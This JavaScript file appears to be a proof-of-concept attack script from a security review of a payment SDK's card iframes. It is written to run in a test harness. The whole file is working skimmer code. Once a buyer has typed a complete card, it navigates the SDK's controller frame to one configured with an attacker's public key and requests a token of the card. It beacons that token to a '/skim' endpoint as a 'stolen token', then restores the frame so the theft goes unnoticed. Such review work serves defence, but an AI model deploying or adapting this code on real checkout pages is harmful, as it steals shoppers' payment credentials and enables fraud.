// Attack, after mount (found by review): once the buyer has typed a complete card, navigate the
// SDK's own controller frame in place to a genuine controller configured with the attacker's
// public key, ask it for a token of the card, then navigate it back (the SDK reconnects).
(function () {
  var ATTACKER_KEY = 'pk_test_ffffffffffffffffffffffff';
  var hex = function () { return Array.from(crypto.getRandomValues(new Uint8Array(16)), function (b) { return b.toString(16).padStart(2, '0'); }).join(''); };
  var t = setInterval(function () {
    var ctl = document.querySelector('iframe.payjp-controller');
    var hosts = document.querySelectorAll('.payjp-frame-host');
    if (!ctl || !hosts.length || document.querySelectorAll('.payjp-frame-host.payjp-complete').length < hosts.length) return;
    clearInterval(t);
    var original = ctl.src;
    var params = new URLSearchParams(original.split('#')[1]);
    var group = new URLSearchParams(document.querySelector('iframe.payjp-frame').src.split('#')[1]).get('group');
    var nonce = hex();
    params.set('nonce', nonce);
    var frameOrigin = new URL(original).origin;
    var apiBase = frameOrigin + '/v1'; // an API base every frame page allows (its own /v1); or https://api.pay.jp/v1
    addEventListener('message', function on(e) {
      if (e.source !== ctl.contentWindow || !e.data || e.data.payjp !== 'hello' || e.data.nonce !== nonce) return;
      removeEventListener('message', on);
      var ch = new MessageChannel();
      ch.port1.onmessage = function (m) {
        if (m.data.t === 'ready') setTimeout(function () { ch.port1.postMessage({ t: 'token', id: 1, group: group, options: {} }); }, 300);
        if (m.data.t === 'result') {
          navigator.sendBeacon('/skim', 'stolen token ' + JSON.stringify(m.data.result));
          (window.__skimmed = window.__skimmed || []).push('stolen token ' + m.data.result.id);
          ctl.contentWindow.location.replace(original); // the SDK reconnects its own controller
          setTimeout(function () { window.__attackDone = true; }, 1500); // (test harness: the buyer presses Pay after this)
        }
      };
      ctl.contentWindow.postMessage({ payjp: 'connect', nonce: nonce, config: { publicKey: ATTACKER_KEY, apiBase: apiBase } }, frameOrigin, [ch.port2]);
    });
    ctl.contentWindow.location.replace(original.split('#')[0] + '?x#' + params);
  }, 100);
})();
